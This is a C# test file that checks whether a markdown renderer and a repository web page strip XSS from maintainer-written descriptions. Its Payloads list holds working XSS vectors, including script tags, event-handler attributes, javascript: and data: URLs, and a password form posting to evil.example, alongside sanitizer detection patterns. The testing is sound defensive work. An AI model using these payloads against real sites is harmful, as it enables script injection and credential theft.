using System.Net;
using System.Text.RegularExpressions;
using Speedy.Index.Web;

namespace Speedy.Index.Tests.Web;

/// <summary>XSS in descriptions: whatever a maintainer writes, the rendered page runs no script of theirs.</summary>
public sealed partial class DescriptionSanitizingTests : IAsyncLifetime
{
    private WebTestHost _host = null!; // Set in InitializeAsync.

    public static TheoryData<string> Payloads =>
    [
        "<script>alert('xss')</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<img src=x onerror=\"alert('xss')\">",
        "<img src=\"javascript:alert('xss')\">",
        "[click](javascript:alert('xss'))",
        "[click](JaVaScRiPt:alert('xss'))",
        "[click](&#106;avascript:alert('xss'))",
        "<a href=\"javascript:alert('xss')\">click</a>",
        "<a href=\" javascript:alert('xss')\">click</a>",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<svg onload=\"alert('xss')\"><circle r=\"1\"/></svg>",
        "<svg><script>alert('xss')</script></svg>",
        "<div onmouseover=\"alert('xss')\">hover</div>",
        "<body onload=\"alert('xss')\">",
        "<object data=\"javascript:alert('xss')\"></object>",
        "<embed src=\"javascript:alert('xss')\">",
        "<form action=\"https://evil.example/\"><input name=\"password\"></form>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('xss')\">",
        "<style>body{display:none}</style>",
        "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</p>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss')>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzJyk8L3NjcmlwdD4=\">click</a>",
        "<details open ontoggle=\"alert('xss')\"><summary>x</summary></details>",
        "![x](x\" onerror=\"alert('xss'))",
    ];

    public async ValueTask InitializeAsync() => _host = await WebTestHost.StartAsync();

    public async ValueTask DisposeAsync() => await _host.DisposeAsync();

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Render_Payload_LeavesNothingThatRuns(string payload) => AssertHarmless(new MarkdownRenderer().Render(payload));

    [Theory]
    [MemberData(nameof(Payloads))]
    public async Task RepositoryPage_PayloadInTheDescription_IsSanitized(string payload)
    {
        var marker = "xss-" + Guid.NewGuid().ToString("N")[..8];
        await _host.Store.SetRepositoryDescriptionAsync(
            WebTestHost.PublicRepository, $"# {marker}\n\n{payload}\n", TestContext.Current.CancellationToken);
        using var client = _host.CreateClient();
        var page = await client.GetAsync($"/repo/{WebTestHost.PublicRepository}");
        Assert.Equal(HttpStatusCode.OK, page.Status);
        var start = page.Body.IndexOf("<article class=\"markdown\" id=\"description\">", StringComparison.Ordinal);
        Assert.True(start >= 0, page.Body);
        var end = page.Body.IndexOf("</article>", start, StringComparison.Ordinal);
        var description = page.Body[start..end];
        Assert.Contains(marker, description, StringComparison.Ordinal);
        AssertHarmless(description);
        Assert.Equal(1, CountOccurrences(page.Body, "<script")); // The layout's own copy.js.
    }

    [Fact]
    public void Render_Markdown_KeepsFormattingLinksAndImages()
    {
        var html = new MarkdownRenderer().Render(
            "# Title\n\n**bold** _em_ `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[site](https://example.com) ![logo](https://example.com/l.png)\n\n<details><summary>More</summary>hidden</details>");
        Assert.Contains("<h1>Title</h1>", html, StringComparison.Ordinal);
        Assert.Contains("<strong>bold</strong>", html, StringComparison.Ordinal);
        Assert.Contains("<table>", html, StringComparison.Ordinal);
        Assert.Contains("<a href=\"https://example.com\" rel=\"nofollow noopener noreferrer\">site</a>", html, StringComparison.Ordinal);
        Assert.Contains("<img src=\"https://example.com/l.png\" alt=\"logo\">", html, StringComparison.Ordinal);
        Assert.Contains("<summary>More</summary>", html, StringComparison.Ordinal);
    }

    /// <summary>No tag that runs or loads anything, and no tag with an event handler, a style or a script URL.</summary>
    private static void AssertHarmless(string html)
    {
        foreach (Match tag in Tag().Matches(html))
        {
            var name = tag.Groups[1].Value.ToLowerInvariant();
            Assert.DoesNotContain(name, s_forbiddenTags);
            Assert.DoesNotMatch(EventHandlerOrStyle(), tag.Value);
            Assert.DoesNotMatch(ScriptUrl(), tag.Value);
        }
    }

    private static int CountOccurrences(string text, string value)
    {
        var count = 0;
        for (var at = text.IndexOf(value, StringComparison.OrdinalIgnoreCase); at >= 0; at = text.IndexOf(value, at + 1, StringComparison.OrdinalIgnoreCase))
        {
            count++;
        }

        return count;
    }

    private static readonly string[] s_forbiddenTags = ["script", "iframe", "svg", "object", "embed", "form", "input", "meta", "style", "math", "body", "link", "base"];

    [GeneratedRegex(@"<\s*/?\s*([a-zA-Z][a-zA-Z0-9-]*)[^>]*>")]
    private static partial Regex Tag();

    [GeneratedRegex(@"\s(on[a-z]+|style)\s*=", RegexOptions.IgnoreCase)]
    private static partial Regex EventHandlerOrStyle();

    [GeneratedRegex(@"(javascript|vbscript|data)\s*:", RegexOptions.IgnoreCase)]
    private static partial Regex ScriptUrl();
}
